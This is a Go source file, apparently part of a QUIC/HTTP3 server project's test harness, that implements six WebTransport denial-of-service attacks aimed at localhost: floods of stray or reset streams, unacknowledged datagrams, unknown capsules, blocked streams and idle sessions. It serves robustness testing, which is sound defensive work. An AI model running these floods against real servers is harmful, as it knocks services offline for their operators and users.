package attack

import (
	"errors"
	"strings"
	"time"

	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/wire"
)

var webTransportRows = []Row{
	{Name: "wt-streams-blocked", Class: "WT", Times: 5, run: wtBlocked,
		Does: "has 100 echoes wait for a stream in each of 20 WebTransport sessions, reads no capsule and raises a limit again and again"},
	{Name: "wt-reset-streams", Class: "WT", run: wtResets,
		Does: "opens streams of a session and resets them"},
	{Name: "wt-streams-of-nobody", Class: "WT pre-session / datagram flood", run: wtStray,
		Does: "opens streams of sessions that do not exist"},
	{Name: "wt-datagrams", Class: "WT pre-session / datagram flood", run: wtDatagrams,
		Does: "sends datagrams to a session, whose echoes it does not acknowledge"},
	{Name: "wt-unknown-capsules", Class: "WT", run: wtCapsules,
		Does: "fills a session's CONNECT stream with capsules of an unknown type"},
	{Name: "wt-sessions", Class: "WT", run: wtSessions,
		Does: "opens sessions, as many as there are streams, and lets them be"},
}

// What WebTransport over HTTP/3 has in draft 13: the settings of a client, the types
// of its streams and the capsules that raise limits.
const (
	settingWT13        = 0x14e9cd29
	settingWTData      = 0x2b61
	settingWTUni       = 0x2b64
	settingWTBidi      = 0x2b65
	wtUniStream        = 0x54
	wtBidiStream       = 0x41
	capsuleWTMaxData   = 0x190b4d3d
	capsuleUnknownToWT = 0x2f0f0f
)

// wtSettings let the server send one byte in a session and open no stream.
var wtSettings = []h3.Setting{
	{ID: h3.SettingDatagram, Value: 1}, {ID: settingWT13, Value: 8},
	{ID: settingWTData, Value: 1}, {ID: settingWTBidi, Value: 0}, {ID: settingWTUni, Value: 0},
}

// errNoSession is the error of a server without WebTransport.
var errNoSession = errors.New("the server opens no WebTransport session")

// session opens a session of the echo, and returns its CONNECT stream.
func (a *attacker) session(d dialing) (*stream, error) {
	c, err := a.dial(d)
	if err != nil {
		return nil, err
	}
	c.window = 256
	a.pause(50 * time.Millisecond) // until the settings have arrived
	s, ok := c.open(false)
	if !ok {
		return nil, errNoSession
	}
	opened := false
	c.onStream = func(f *wire.Stream) { opened = opened || f.ID == s.id && len(f.Data) > 0 }
	s.write(connect(), false)
	for start := time.Now(); !opened && time.Since(start) < handshakePatience; {
		a.poll(5 * time.Millisecond)
		if err := c.failed(); err != nil {
			return nil, err
		}
	}
	if c.onStream = nil; !opened {
		return nil, errNoSession
	}
	return s, nil
}

// connect asks for a session.
func connect() []byte {
	return headers(":method=CONNECT", ":protocol=webtransport", ":scheme=https", ":authority=localhost", ":path=/wt/echo", "origin=https://localhost")
}

// wtStream is what a stream of a session begins with.
func wtStream(t uint64, session wire.StreamID) []byte {
	return wire.AppendVarint(wire.AppendVarint(nil, t), uint64(session))
}

func wtBlocked(a *attacker) error {
	var conns []*conn
	sessions := make(map[*conn]*stream)
	waiting := 0
	for range 20 {
		s, err := a.session(dialing{settings: wtSettings, params: func(p *wire.TransportParameters) { p.InitialMaxStreamDataBidiLocal = 2000 }})
		if err != nil {
			return err
		}
		sessions[s.c] = s
		conns = append(conns, s.c)
		for range 100 {
			if u, ok := s.c.open(true); ok {
				waiting++
				u.write(wtStream(wtUniStream, s.id), true)
			}
		}
	}
	a.pause(200 * time.Millisecond)
	a.begun()
	limit := uint64(1)
	// No more than the server can follow: limits that it takes together wake nobody twice.
	a.eachConn(10_000, conns, func(c *conn) bool {
		if sessions[c].room(100) {
			limit++
			sessions[c].write(frame(h3.FrameData, h3.AppendCapsule(nil, capsuleWTMaxData, wire.AppendVarint(nil, limit))), false)
		}
		return true
	})
	a.notef("%d echoes wait, %d limits; %s", waiting, limit, ends(conns))
	return nil
}

func wtResets(a *attacker) error {
	s, err := a.session(dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	c := s.c
	head := wtStream(wtBidiStream, s.id)
	a.openFull(c, false, maxPayload-60, func(b []byte, x *stream) []byte {
		b = x.append(b, head, false)
		return wire.AppendResetStream(b, wire.ResetStream{ID: x.id, FinalSize: x.off})
	})
	return nil
}

func wtStray(a *attacker) error {
	c, err := a.dial(dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	head := append(wtStream(wtUniStream, 400), strings.Repeat("x", 200)...)
	a.openFull(c, true, maxPayload-250, func(b []byte, x *stream) []byte { return x.append(b, head, false) })
	return nil
}

// openFull is an attack that fills packets with the frames of streams that it opens, as
// long as they have less than room bytes.
func (a *attacker) openFull(c *conn, uni bool, room int, frames func(b []byte, x *stream) []byte) {
	a.begun()
	conns, n := []*conn{c}, 0
	a.eachConn(20_000, conns, func(c *conn) bool {
		b := c.payload[:0]
		for len(b) < room {
			x, ok := c.open(uni)
			if !ok {
				break
			}
			n++
			b = frames(b, x)
		}
		c.payload = b
		if len(b) > 0 {
			c.send(b)
		}
		return true
	})
	a.notef("%d streams; %s", n, ends(conns))
}

func wtDatagrams(a *attacker) error {
	s, err := a.session(dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	c := s.c
	c.window, c.mute = 0, true
	b := wire.AppendDatagram(nil, wire.Datagram{Data: append(h3.AppendQuarterID(nil, uint64(s.id)), make([]byte, maxPayload-20)...)})
	a.begun()
	n := a.eachConn(50_000, []*conn{c}, func(c *conn) bool { c.send(b); return true })
	a.notef("%d datagrams; %s", n, ends([]*conn{c}))
	return nil
}

func wtCapsules(a *attacker) error {
	s, err := a.session(dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	var b []byte
	for len(b) < maxPayload-streamHeader-30 {
		b = h3.AppendCapsule(b, capsuleUnknownToWT, nil)
	}
	b = frame(h3.FrameData, b)
	a.pour(50_000, s, b)
	return nil
}

func wtSessions(a *attacker) error {
	conns, err := a.dialMany(4, dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	a.pause(50 * time.Millisecond)
	a.begun()
	n := 0
	a.eachConn(2000, conns, func(c *conn) bool {
		if s, ok := c.open(false); ok {
			n++
			s.write(connect(), false)
		}
		return true
	})
	a.notef("%d sessions asked for; %s", n, ends(conns))
	return nil
}
